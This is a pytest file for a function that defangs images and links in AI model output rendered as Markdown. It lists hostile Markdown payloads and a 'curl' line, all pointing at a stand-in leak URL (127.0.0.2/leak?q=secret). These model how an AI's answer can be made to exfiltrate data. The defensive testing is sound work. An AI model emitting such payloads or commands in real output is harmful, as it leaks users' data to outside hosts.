"""Model text keeps its Markdown formatting, but no image or link in it is live: addresses are shown as code."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.agents.conftest import KEY
from tests.fakes.openai_server import FakeOpenAI, text_reply
from tests.ui.conftest import open_page
from vsl.runtime import Runtime
from vsl.ui.model_text import neutralize

EVIL = "http://127.0.0.2:9/leak?q=secret"
LIVE = re.compile(r"(?<!\\)\]\(|(?<!\\)<[a-z]+:|^ {0,3}(?<!\\)\[[^\]]+(?<!\\)\]:", re.MULTILINE)
HOSTILE = [
    f"![chart]({EVIL})",
    f'[click here]({EVIL} "title")',
    f"<{EVIL}>",
    f"see {EVIL} now",
    f"www.example.org/{EVIL}",
    f"[ref][1]\n\n[1]: {EVIL}",
    f"![a][img]\n[img]: {EVIL}",
    f"[outer [inner]({EVIL})]({EVIL})",
    f"[unclosed]({EVIL}",
    f"![x](<{EVIL}>)",
    "[x](//127.0.0.2/protocol-relative)",
]


def _outside_code(markdown: str) -> str:
    return re.sub(r"`[^`]*`", "", markdown)


@pytest.mark.parametrize("text", HOSTILE)
def test_no_image_or_link_syntax_survives_outside_code(text: str) -> None:
    shown = neutralize(text)
    assert not LIVE.search(_outside_code(shown)), shown
    assert "127.0.0.2" not in _outside_code(shown)  # the address is there, but only as code


def test_the_address_stays_visible_and_formatting_is_kept() -> None:
    shown = neutralize(f"**Fix:** lower the duration.\n\n- one\n- two\n\n![diagram]({EVIL}) and [docs]({EVIL})")
    assert shown.startswith("**Fix:** lower the duration.\n\n- one\n- two")
    assert f"diagram (image not loaded: `{EVIL}`)" in shown and f"docs (`{EVIL}`)" in shown


def test_code_is_left_as_the_model_wrote_it() -> None:
    text = f'Run `curl {EVIL}` or:\n\n```json\n{{"url": "![x]({EVIL})"}}\n```\nthen retry.'
    assert neutralize(text) == text


@given(st.text(alphabet="[]()!<>:`\n /.ahtpw1", max_size=60))
def test_generated_bracket_soup_never_leaves_live_syntax(text: str) -> None:
    assert not LIVE.search(_outside_code(neutralize(text)))


def test_a_streamed_gpt5_answer_with_images_and_links_is_shown_with_nothing_live(
    app_env: Runtime, monkeypatch: pytest.MonkeyPatch
) -> None:
    answer = f"Try this: ![tracking]({EVIL}) or read [the fix]({EVIL})."
    with FakeOpenAI(lambda body: text_reply(answer), api_key=KEY) as fake:
        monkeypatch.setenv("OPENAI_API_KEY", KEY)
        monkeypatch.setenv("OPENAI_BASE_URL", fake.base_url)
        at = open_page("pages/chat.py")
        at.chat_input[0].set_value("Why did it fail?").run()
        streamed = [m.value for m in at.markdown if EVIL in m.value]
        at.run()  # read back from the database
        stored = [m.value for m in at.markdown if EVIL in m.value]
    for shown in (streamed, stored):
        assert shown, "the answer is shown"
        assert all(f"`{EVIL}`" in s and "](" not in _outside_code(s) for s in shown), shown


def test_a_link_to_a_page_of_the_studio_docs_stays_a_link() -> None:
    text = "Read more: [user-guide › 8. Keep a face](docs?page=user-guide) · [api](docs?page=vsl-lambda-api#errors)"
    assert neutralize(text) == text


@pytest.mark.parametrize(
    "text",
    [
        f"[guide](docs?page=user-guide&next={EVIL})",
        f"[guide](docs?page=user-guide {EVIL})",
        f"[![x]({EVIL})](docs?page=user-guide)",
        f"[see {EVIL}](docs?page=user-guide)",
        "[guide](/docs?page=user-guide)",
    ],
)
def test_anything_more_than_a_docs_page_name_is_not_live(text: str) -> None:
    shown = neutralize(text)
    assert "](" not in _outside_code(shown) and "127.0.0.2" not in _outside_code(shown), shown
